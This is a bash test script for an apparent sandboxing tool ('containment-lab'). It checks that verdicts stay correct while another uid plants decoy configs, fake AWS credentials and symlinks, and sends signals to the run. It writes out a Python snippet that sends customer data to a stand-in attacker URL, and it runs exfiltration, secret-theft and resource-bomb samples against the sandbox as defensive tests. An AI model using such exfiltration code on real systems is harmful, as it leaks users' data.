#!/usr/bin/env bash
# tests/manyusers_test.sh [BINARY] — many users, one machine (issue 24):
# with another uid crowding and forging at the lab the whole time
# (tests/multiuser_attacker.py) and files of its planted where the lab
# looks (a layers.ini in an XDG config dir, run-folder names in the lab's
# temp folder, cgroup folders), every verdict stays the run's own:
#  - the shipped exfiltration with --off network ESCAPED 10 of 10, and
#    secret-theft with --off network (Clean-env on) CONTAINED 10 of 10, for
#    a root lab (attacker uid 65534) and a rootless one (uid 65534,
#    attacker uid 65533);
#  - a root lab's sandbox is a uid of the run's own, claimed for the run:
#    uid 65534 cannot signal it (kill gets EPERM);
#  - a run killed from outside says so: ERROR "killed by a signal the lab
#    did not send ... from outside" (root's kill -9 of the snippet's host
#    pid, root's SIGTERM to the run's init, the rootless lab's own uid
#    killing its snippet), never CONTAINED or BROKE;
#  - nothing left behind, the planted files as they were (never followed,
#    never removed), no uid claim left.
# The whole test runs in a network namespace of its own (lo up). Needs
# root (setpriv, unshare --net).
set -u
cd "$(dirname "$0")/.." || exit 1
if [[ $(id -u) != 0 ]]; then
	source tests/lib.sh
	skip "many users against the lab" "needs root (setpriv to other uids, a network namespace of its own)"
	finish
	exit
fi
if [[ -z ${CL_MANY_NETNS:-} ]]; then
	exec unshare --net env CL_MANY_NETNS=1 bash "$0" "$@"
fi
ip link set lo up || exit 1
source tests/lib.sh
BIN=$(realpath "${1:-./containment-lab}")
T=$(mktemp -d /tmp/cl-many.XXXXXX)
chmod 755 "$T"
APID="" LPID=""
trap '[[ -n $APID ]] && kill "$APID" 2>/dev/null; [[ -n $LPID ]] && kill "$LPID" 2>/dev/null; rm -rf "$T"; suite_cleanup' EXIT
LAB=$T/lab-many-$$
cp "$BIN" "$LAB"
cp layers.ini snippets/sales.csv snippets/exfiltration.py snippets/secret-theft.py snippets/resource-bomb.py \
	tests/multiuser_attacker.py "$T/"
# an attack that waits before it tries: killed meanwhile, nothing can have
# stopped it but the kill
cat >"$T/waits.py" <<'EOF'
# lab:title: waits, then sends the data out
# lab:threat: exfil
# lab:layer: network
# lab:consequence: the customer data at the attacker's
import os, time, urllib.request
print("waiting", flush=True)
time.sleep(25)
urllib.request.urlopen(os.environ["LAB_ATTACKER"], data=open(os.environ["LAB_DATA"], "rb").read(), timeout=3)
EOF
chmod -R a+rX "$T"
as_uid() { # UID CMD...
	local u=$1
	shift
	setpriv --reuid="$u" --regid="$u" --clear-groups "$@"
}
field() { $PY -c "import json,sys; d=json.load(sys.stdin); print($1)" 2>/dev/null || echo "no-json"; }

before=$(leftovers_snapshot)
claims() { grep -c '@containment-lab/uid/' /proc/net/unix; }

# ---- planted where the lab looks, by uid 65533 ----
mkdir -m 1777 "$T/xdg" "$T/cwd"
as_uid 65533 $PY - "$TMPDIR" "$T/xdg" <<'PY'
import os, sys
tmp, xdg = sys.argv[1], sys.argv[2]
os.makedirs(f"{xdg}/containment-lab")
with open(f"{xdg}/containment-lab/layers.ini", "w") as f:
    f.write("[layers]\nnetwork = off\nenv = off\n[isolation]\noutside_uid = 65534\n")
os.chmod(f"{xdg}/containment-lab/layers.ini", 0o644)
# run-folder names: a live pid's, a gone pid's holding a decoy-looking home,
# a link to /etc and a FIFO where a gone pid's folder would be
os.makedirs(f"{tmp}/containment-lab.1.AAAAAA/work")
os.makedirs(f"{tmp}/containment-lab.999999.BBBBBB/home/.aws")
with open(f"{tmp}/containment-lab.999999.BBBBBB/home/.aws/credentials", "w") as f:
    f.write("[default]\naws_secret_access_key = PLANTED\n")
os.symlink("/etc", f"{tmp}/containment-lab.999998.CCCCCC")
os.mkfifo(f"{tmp}/containment-lab.999997.DDDDDD")
PY
planted() { ls -ld "$TMPDIR"/containment-lab.99999[789].* "$TMPDIR"/containment-lab.1.* 2>&1 | awk '{print $1, $3, $NF}'; }
planted_before=$(planted)
cgroup_plants=""
for d in /sys/fs/cgroup/containment-lab.run-999999-0 /sys/fs/cgroup/*/containment-lab.run-999999-0; do
	as_uid 65533 mkdir "$d" 2>/dev/null && cgroup_plants+=" $d"
done
expect_eq "uid 65533 can plant no cgroup folder where the lab looks" "$cgroup_plants" ""
out=$(cd "$T/cwd" && XDG_CONFIG_HOME=$T/xdg "$LAB" list 2>&1); rc=$?
expect_eq "a layers.ini planted in the XDG config dir by uid 65533: the lab refuses it (exit 2)" "$rc" 2
expect_contains "... saying whose it is, never using it" "$out" "belongs to uid 65533"
# the same runs as below, without --config but for the planted file's: it
# never turns No-network or Clean-env off
j=$(cd "$T/cwd" && XDG_CONFIG_HOME=$T/xdg "$LAB" --config "$T/layers.ini" run "$T/exfiltration.py" --json)
expect_eq "with the XDG plant in place, an explicit --config: exfiltration CONTAINED by No-network" \
	"$(field 'd["verdict"], d["caught_by"]' <<<"$j")" "CONTAINED network"

# ---- crowding and forging the whole time ----
# cell WHO NAME SNIPPET OFF EXPECT N
cell() {
	local who=$1 name=$2 file=$3 off=$4 want=$5 n=$6 i got good=0 other=""
	for ((i = 0; i < n; i++)); do
		if [[ $who == root ]]; then
			got=$("$LAB" --config "$T/layers.ini" run "$T/$file" --off "$off" --json | field 'd["verdict"], d["caught_by"] or "-"')
		else
			got=$(as_uid 65534 "$LAB" --config "$T/layers.ini" run "$T/$file" --off "$off" --json | field 'd["verdict"], d["caught_by"] or "-"')
		fi
		if [[ $got == "$want" ]]; then good=$((good + 1)); else other+=" [$got]"; fi
	done
	if [[ $good == "$n" ]]; then
		ok "$who: $name: $want $good of $n"
	else
		not_ok "$who: $name: $want $good of $n" "the others:$other"
	fi
}
attack() { # WHO LAB_UID ATTACKER_UID
	local who=$1 lab_uid=$2 att=$3
	# setpriv execs the attacker: $! is its pid
	setpriv --reuid="$att" --regid="$att" --clear-groups $PY "$T/multiuser_attacker.py" "$TMPDIR" "$lab_uid" >"$T/stats.$who" &
	APID=$!
	sleep 0.3
	cell "$who" "the shipped exfiltration, --off network, crowded and forged at" exfiltration.py network "ESCAPED -" 10
	cell "$who" "secret theft, --off network (Clean-env on), crowded and forged at" secret-theft.py network "CONTAINED env" 10
	kill -TERM "$APID"
	wait "$APID"
	APID=""
	echo "# $who against uid $att: attacker saw: $(cat "$T/stats.$who")"
}
attack root 0 65534
attack nobody 65534 65533

# ---- signals ----
# start_waiting WHO OFF: the lab in the background, running waits.py;
# LPID its pid, INIT and SNIP the run's init and snippet on the host
start_waiting() {
	local who=$1 off=$2 i
	if [[ $who == root ]]; then
		"$LAB" --config "$T/layers.ini" run "$T/waits.py" --off "$off" --json >"$T/w.json" &
	else
		# setpriv execs the lab: $! is its pid
		setpriv --reuid=65534 --regid=65534 --clear-groups "$LAB" --config "$T/layers.ini" run "$T/waits.py" \
			--off "$off" --json >"$T/w.json" &
	fi
	LPID=$!
	INIT="" SNIP=""
	for ((i = 0; i < 200; i++)); do
		INIT=$(pgrep -P "$LPID" | head -1)
		[[ -n $INIT ]] && SNIP=$(pgrep -P "$INIT" -f 'snippet\.py' | head -1)
		[[ -n $SNIP ]] && break
		sleep 0.05
	done
	sleep 0.3 # the snippet is past its start-up, in its sleep
}
end_waiting() {
	wait "$LPID"
	LPID=""
}
uid_of() { awk '/^Uid:/ {print $2}' "/proc/$1/status" 2>/dev/null; }
kill_as() { # UID SIG PID: "0" or the errno's name
	as_uid "$1" $PY -c "import errno,os,sys
try: os.kill(int(sys.argv[2]), int(sys.argv[1])); print(0)
except OSError as e: print(errno.errorcode[e.errno])" "$2" "$3"
}

start_waiting root limits
u=$(uid_of "$SNIP")
if [[ -n $u && $u -ge 2147418112 && $u -le 2147483646 ]]; then
	ok "root lab: the snippet runs as uid $u outside, of the lab's block, not 65534"
else
	not_ok "root lab: the snippet runs as a uid of the lab's block" "init $INIT snippet $SNIP uid '$u'"
fi
expect_eq "root lab: the run holds the claim on its uid (@containment-lab/uid/$u)" \
	"$(grep -c "@containment-lab/uid/$u\$" /proc/net/unix)" 1
expect_eq "root lab: uid 65534's kill -9 of the snippet gets EPERM" "$(kill_as 65534 9 "$SNIP")" EPERM
expect_eq "root lab: uid 65534's kill -9 of the run's init gets EPERM" "$(kill_as 65534 9 "$INIT")" EPERM
expect_eq "root lab: uid 65534's kill -STOP of the snippet gets EPERM" "$(kill_as 65534 19 "$SNIP")" EPERM
kill -9 "$SNIP"
end_waiting
j=$(cat "$T/w.json")
expect_eq "root lab, the snippet killed -9 from outside: ERROR" "$(field 'd["verdict"]' <<<"$j")" ERROR
h=$(field 'd["headline"]' <<<"$j")
[[ $h == *killed*"from outside"* ]] && ok "... saying it was killed from outside ($h)" ||
	not_ok "... saying it was killed from outside" "headline: $h"
expect_contains "... the mechanisms name the run's own uid" "$(field 'd["mechanisms"]' <<<"$j")" \
	"root inside = uid $u outside, a uid of this run's own"
expect_eq "root lab: the claim on uid $u is gone with the run" "$(grep -c "@containment-lab/uid/$u\$" /proc/net/unix)" 0

start_waiting root limits
kill -TERM "$INIT"
end_waiting
j=$(cat "$T/w.json")
expect_eq "root lab, SIGTERM to the run's init from outside: ERROR" "$(field 'd["verdict"]' <<<"$j")" ERROR
expect_contains "... naming it sent to the init from outside its PID namespace" "$(field 'd["headline"]' <<<"$j")" \
	"SIGTERM (15) sent to the run's init from outside its PID namespace"

start_waiting root limits,isolation
kill -9 "$INIT"
end_waiting
j=$(cat "$T/w.json")
expect_eq "root lab, Isolation off, the run's init killed -9 from outside: ERROR" "$(field 'd["verdict"]' <<<"$j")" ERROR
expect_contains "... no process inside could have" "$(field 'd["headline"]' <<<"$j")" \
	"the run's init was killed by SIGKILL, which no process inside the sandbox can send it"

start_waiting nobody limits
expect_eq "rootless lab: the snippet is the user's own uid outside" "$(uid_of "$SNIP")" 65534
kill_as 65534 9 "$SNIP" >/dev/null
end_waiting
j=$(cat "$T/w.json")
h=$(field 'd["verdict"], d["headline"]' <<<"$j")
[[ $h == ERROR*killed*"from outside"* ]] && ok "rootless lab, its snippet killed by another process of its uid: ERROR, from outside" ||
	not_ok "rootless lab, its snippet killed by another process of its uid: ERROR, from outside" "got: $h"

# an escape stays an escape, whoever ends the run after: the resource bomb
# with Resource-limits off is past the caps before the lab's own end
j=$("$LAB" --config "$T/layers.ini" run "$T/resource-bomb.py" --off limits --json)
expect_eq "the resource bomb with Resource-limits off: ESCAPED, not taken for a kill from outside" \
	"$(field 'd["verdict"], d["exit"]["foreign"]' <<<"$j")" "ESCAPED None"
j=$("$LAB" --config "$T/layers.ini" run "$T/resource-bomb.py" --json)
expect_eq "the resource bomb: CONTAINED by Resource-limits (its OOM and rlimit kills are the lab's own)" \
	"$(field 'd["verdict"], d["caught_by"], d["exit"]["foreign"]' <<<"$j")" "CONTAINED limits None"

# ---- nothing left behind ----
expect_eq "the planted files are as they were: not followed, not removed" "$(planted)" "$planted_before"
check "/etc is still there" test -f /etc/passwd
rm -rf "$TMPDIR"/containment-lab.99999[789].* "$TMPDIR"/containment-lab.1.*
expect_eq "no uid claim left" "$(claims)" 0
expect_eq "nothing left behind" "$(leftovers_snapshot)" "$before"
finish
